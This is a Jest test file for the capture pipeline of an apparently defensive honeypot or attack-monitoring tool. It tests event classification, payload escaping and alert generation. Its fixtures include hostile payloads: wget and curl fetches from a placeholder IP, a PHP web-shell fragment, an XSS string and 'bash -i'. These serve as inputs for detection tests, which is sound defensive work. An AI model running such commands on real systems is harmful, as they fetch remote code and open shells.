import { CapturePipeline, CaptureResult, RawCapture } from '../../src/main/core/capture/CapturePipeline';
import { ThreatAnalyzer } from '../../src/main/core/analysis/ThreatAnalyzer';
import { AlertPolicy } from '../../src/main/core/alerts/AlertPolicy';
import { SQLiteEventStore } from '../../src/main/core/storage/SQLiteEventStore';
import { logger } from '../../src/main/utils/logger';
import type { Alert } from '../../src/shared/types/attack';

jest.mock('../../src/main/utils/logger', () => ({
  logger: {
    info: jest.fn(),
    warn: jest.fn(),
    error: jest.fn(),
    debug: jest.fn(),
  },
}));

const sshCapture = (overrides: Partial<RawCapture> = {}): RawCapture => ({
  sourceIp: '203.0.113.20',
  sourcePort: 51000,
  protocol: 'ssh',
  attackType: 'brute-force-ssh',
  payload: 'SSH-2.0-Go',
  ...overrides,
});

describe('CapturePipeline', () => {
  let store: SQLiteEventStore;
  let analyzer: ThreatAnalyzer;
  let pipeline: CapturePipeline;

  beforeEach(() => {
    jest.clearAllMocks();
    store = new SQLiteEventStore(':memory:');
    analyzer = new ThreatAnalyzer();
    pipeline = new CapturePipeline({ analyzer, store, alertPolicy: new AlertPolicy() });
  });

  afterEach(async () => {
    await store.close();
  });

  it('classifies, stores and returns the event', async () => {
    const result = await pipeline.capture(sshCapture());

    expect(result.event).toMatchObject({
      id: 1,
      sourceIp: '203.0.113.20',
      sourcePort: 51000,
      protocol: 'ssh',
      attackType: 'brute-force-ssh',
      rawPayload: 'SSH-2.0-Go',
      threatLevel: 'MEDIUM',
      attackPattern: 'BRUTE_FORCE',
    });
    expect(result.event.timestamp).toMatch(/^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}\.\d{3}Z$/);
    expect(result.recommendations).toEqual([
      'Enable account lockout policies and consider fail2ban.',
      'Disable password authentication and enforce SSH key-based login.',
    ]);
    expect(result.alert).toBeUndefined();

    const stored = await store.getAttackById(1);
    expect(stored?.rawPayload).toBe('SSH-2.0-Go');
  });

  it('stores the payload HTML-escaped', async () => {
    const result = await pipeline.capture(
      sshCapture({ protocol: 'http', attackType: 'http-probe', payload: `<script>alert("x")</script>` })
    );

    expect(result.event.rawPayload).toBe('&lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt;');
    const stored = await store.getAttackById(result.event.id ?? 0);
    expect(stored?.rawPayload).toBe('&lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt;');
  });

  it('raises a DANGEROUS_COMMAND alert linked to the stored event', async () => {
    const alerts: Alert[] = [];
    pipeline.on('alert', (alert: Alert) => alerts.push(alert));

    const result = await pipeline.capture(sshCapture({ payload: 'wget http://198.51.100.9/x.sh' }));

    expect(result.alert).toEqual({
      id: 1,
      timestamp: result.event.timestamp,
      sourceIp: '203.0.113.20',
      alertType: 'DANGEROUS_COMMAND',
      detail: 'threatLevel=MEDIUM attackType=brute-force-ssh data=wget http://198.51.100.9/x.sh',
      attackId: 1,
    });
    expect(alerts).toEqual([result.alert]);
    expect(await store.getAlerts()).toEqual([
      {
        id: 1,
        timestamp: result.event.timestamp,
        sourceIp: '203.0.113.20',
        alertType: 'DANGEROUS_COMMAND',
        detail: 'threatLevel=MEDIUM attackType=brute-force-ssh data=wget http://198.51.100.9/x.sh',
        attackId: 1,
      },
    ]);
  });

  it('matches keywords against the text before escaping', async () => {
    const policy = new AlertPolicy(['<?php']);
    pipeline = new CapturePipeline({ analyzer, store, alertPolicy: policy });

    const result = await pipeline.capture(
      sshCapture({ protocol: 'http', attackType: 'http-probe', payload: '<?php system($_GET["c"]); ?>' })
    );

    expect(result.alert?.alertType).toBe('DANGEROUS_COMMAND');
    expect(result.alert?.detail).toBe(
      'threatLevel=LOW attackType=http-probe data=&lt;?php system($_GET[&quot;c&quot;]); ?&gt;'
    );
  });

  it('raises HIGH_THREAT from the tenth probe of a single source onwards', async () => {
    const results: CaptureResult[] = [];
    for (let i = 0; i < 12; i++) {
      results.push(
        await pipeline.capture(
          sshCapture({ sourceIp: '5.5.5.5', protocol: 'http', attackType: 'http-probe', payload: 'method=GET path=/' })
        )
      );
    }

    expect(results[11].event.threatLevel).toBe('HIGH');
    expect(results.slice(0, 9).every((result) => result.alert === undefined)).toBe(true);
    expect(results.slice(9).map((result) => result.alert?.alertType)).toEqual([
      'HIGH_THREAT',
      'HIGH_THREAT',
      'HIGH_THREAT',
    ]);

    const alerts = await store.getAlerts();
    expect(alerts.map((alert) => alert.attackId)).toEqual([12, 11, 10]);
  });

  it('emits every capture as an attack event', async () => {
    const listener = jest.fn();
    pipeline.on('attack', listener);

    const result = await pipeline.capture(sshCapture());

    expect(listener).toHaveBeenCalledTimes(1);
    expect(listener).toHaveBeenCalledWith(result);
  });

  it('falls back to LOW and UNKNOWN when analysis throws', async () => {
    jest.spyOn(analyzer, 'analyze').mockImplementation(() => {
      throw new Error('analysis exploded');
    });

    const result = await pipeline.capture(sshCapture());

    expect(result.event.threatLevel).toBe('LOW');
    expect(result.event.attackPattern).toBe('UNKNOWN');
    expect(result.recommendations).toEqual([]);
    expect((await store.getAttackById(1))?.attackPattern).toBe('UNKNOWN');
    expect(logger.error).toHaveBeenCalledWith(
      'Threat analysis failed, defaulting to LOW',
      expect.objectContaining({ sourceIp: '203.0.113.20' })
    );
  });

  it('still alerts when the event cannot be stored', async () => {
    jest.spyOn(store, 'recordAttack').mockRejectedValue(new Error('disk full'));

    const result = await pipeline.capture(sshCapture({ payload: 'curl -O http://198.51.100.9/a' }));

    expect(result.event.id).toBeUndefined();
    expect(result.alert?.attackId).toBeNull();
    expect(result.alert?.alertType).toBe('DANGEROUS_COMMAND');
    expect(logger.error).toHaveBeenCalledWith(
      'Failed to persist attack event',
      expect.objectContaining({ sourceIp: '203.0.113.20', protocol: 'ssh' })
    );
  });

  it('keeps the event when the alert cannot be stored', async () => {
    jest.spyOn(store, 'recordAlert').mockRejectedValue(new Error('disk full'));
    const alertListener = jest.fn();
    pipeline.on('alert', alertListener);

    const result = await pipeline.capture(sshCapture({ payload: 'bash -i' }));

    expect(result.event.id).toBe(1);
    expect(result.alert).toBeUndefined();
    expect(alertListener).not.toHaveBeenCalled();
    expect(await store.getAttacks()).toHaveLength(1);
  });
});
